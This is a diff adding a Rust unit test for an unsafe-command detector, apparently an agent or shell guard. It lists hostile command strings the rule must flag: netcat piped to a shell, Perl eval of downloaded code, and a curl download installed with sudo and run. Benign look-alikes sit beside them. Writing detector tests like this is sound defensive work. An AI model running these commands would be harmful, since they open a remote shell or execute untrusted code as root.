@@ -604,3 +604,24 @@ fn downloads_piped_to_a_root_shell_or_fetched_with_get() {
         assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
     }
 }
+
+/// A review of session 54 (probes written blind): netcat piped to a
+/// shell, Perl's `eval get(…)` without parentheses, a download written by
+/// `tee` and then run.
+#[test]
+fn netcat_to_a_shell_eval_get_and_tee_then_run() {
+    for hit in [
+        "nc 10.0.3.44 4444 | /bin/sh",
+        "perl -MLWP::Simple -e 'eval get(\"http://scripts.example.test/patch.pl\")'",
+        "curl -sL https://dl.example.io/em | sudo tee /usr/local/bin/em >/dev/null && sudo chmod +x /usr/local/bin/em && em init",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "nc -zv 10.0.3.44 4444",
+        "perl -MLWP::Simple -e 'print get(\"http://scripts.example.test/patch.pl\")'",
+        "curl -sL https://dl.example.io/list.txt | sudo tee /etc/app/list.txt >/dev/null && cat /etc/app/list.txt",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
